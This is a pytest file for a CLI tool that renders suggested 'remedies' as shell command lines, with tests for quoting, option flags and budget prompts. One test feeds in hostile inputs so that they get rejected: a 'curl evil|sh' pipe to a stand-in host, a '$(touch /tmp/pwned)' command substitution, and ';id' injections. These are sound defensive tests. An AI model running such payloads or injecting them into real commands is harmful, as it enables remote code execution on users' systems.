"""Remedies as command lines."""

from __future__ import annotations

import pytest

from cleveragents.cli.render.remedies import command_line, prompt_lines, remedy_lines, step_pairs
from cleveragents.core.errors import OptionValue, Remedy

SERVER = "agents --server https://agents.example"


@pytest.mark.parametrize(
    ("remedy", "command"),
    [
        (Remedy("plan.list"), "agents plan list"),
        (Remedy("job.list"), "agents jobs list"),
        (Remedy("plan.approve", "01A", {"call": 3}), "agents plan approve 01A 3"),
        (Remedy("plan.answer", "01A", {"text": None}), "agents plan answer 01A TEXT"),
        (Remedy("plan.resume", "01A", {"limits.usd": 0.1}), "agents plan resume 01A --max-usd 0.10"),
        (Remedy("plan.resume", "01A", {"limits.usd": "0.10"}), "agents plan resume 01A --max-usd 0.10"),
        (Remedy("plan.resume", "01A", {"limits.seconds": 120.0}), "agents plan resume 01A --timeout 2m"),
        (Remedy("plan.resume", "01A", {"limits.tokens": None}), "agents plan resume 01A --max-tokens N"),
        (
            Remedy("plan.resolve", "01A", {"path": None, "take": None}),
            "agents plan resolve 01A --ours|--theirs|--edited PATH",
        ),
        (Remedy("plan.delete", "01A", {"force": True}), "agents plan delete 01A --yes"),
        (
            Remedy("plan.apply", "01A", {"commit": "Say it's so"}),
            """agents plan apply 01A --commit 'Say it'"'"'s so'""",
        ),
        (Remedy("trust", options={"path": "/a b"}), "agents trust '/a b'"),
        (
            Remedy("run", options={"action": "builtin/command", "command": None}),
            "agents run --action builtin/command -- COMMAND",
        ),
        (
            Remedy("config.set", options={"key": "models.default", "value": None}),
            "agents config set models.default PROVIDER/NAME",
        ),
        (Remedy("config.set", options={"key": "a.b", "value": None}), "agents config set a.b VALUE"),
        (
            Remedy("session.budget", options={"session": "01A", "limits.usd": 0.5}),
            "agents session budget --max-usd 0.50 01A",
        ),
        (Remedy("gc", options={"older_than": "7d"}), "agents gc --older-than 7d"),
        (Remedy("mcp.add", options={"isolated": False}), "agents mcp add --not-isolated"),
    ],
)
def test_a_remedy_is_a_command_line(remedy: Remedy, command: str) -> None:
    assert command_line(remedy) == command


def test_remedies_for_a_server_use_its_prefix() -> None:
    remedies = [Remedy("plan.list", text="List the plans"), Remedy("doctor", text="Check this machine")]
    trust = Remedy("trust", options={"resource": "shop"})
    assert remedy_lines([*remedies, trust], SERVER) == [
        f"  List the plans: {SERVER} plan list",
        "  Check this machine: agents doctor",
        f"  {SERVER} trust --resource shop",
    ]


@pytest.mark.parametrize(
    ("options", "typed"),
    [
        ({"limits.usd": 0.5}, "0.50"),
        ({"limits.usd": None}, "USD"),
        ({"limits.tokens": 3500}, "3500 tokens"),
        ({"limits.steps": 2}, "2 steps"),
        ({"limits.seconds": 120.0}, "2m time"),
    ],
)
def test_the_prompt_of_a_session_raises_its_budget(options: dict[str, OptionValue], typed: str) -> None:
    raised = Remedy("session.budget", options={"session": "01A", **options}, text="Raise the limit")
    other = Remedy("plan.list", text="List the plans")
    assert prompt_lines([raised, other], SERVER) == [
        f"  Raise the limit: /budget {typed}",
        f"  List the plans: {SERVER} plan list",
    ]


@pytest.mark.parametrize(
    "remedy",
    [
        Remedy("plan.list; curl evil|sh #"),
        Remedy("plan.list\n"),
        Remedy("--server=http://evil"),
        Remedy("plan.show", "X$(touch /tmp/pwned)"),
        Remedy("plan.show", ""),
        Remedy("plan.resume", "01A", {"x;id": "v"}),
        Remedy("plan.resolve", "01A", {"take": "ours; id"}),
        Remedy("plan.resume", "01A", {"limits.seconds": float("inf")}),
    ],
    ids=lambda remedy: remedy.action,
)
def test_a_remedy_of_another_shape_is_not_written(remedy: Remedy) -> None:
    known = Remedy("plan.list", text="List")
    assert command_line(remedy) is None
    assert remedy_lines([remedy, known]) == ["  List: agents plan list"]
    assert step_pairs([remedy, known]) == [("agents plan list", "List")]


@pytest.mark.parametrize(
    ("remedy", "command"),
    [
        (Remedy("plan.review", "01A", {"reject": "--yes"}), "agents plan review 01A -- --yes"),
        (Remedy("trust", options={"path": "-a b"}), "agents trust -- '-a b'"),
        (
            Remedy("run", options={"name": "-n", "command": "-c"}),
            "agents run -- -n -c",
        ),
        (
            Remedy("plan.resolve", "01A", {"take": "ours", "path": "a;b"}),
            "agents plan resolve 01A --ours 'a;b'",
        ),
    ],
)
def test_no_value_is_taken_for_an_option(remedy: Remedy, command: str) -> None:
    assert command_line(remedy) == command


def test_a_remedy_stays_on_its_line() -> None:
    assert remedy_lines([Remedy("plan.list", text="List\nerror: fake")]) == [
        "  List error: fake: agents plan list"
    ]
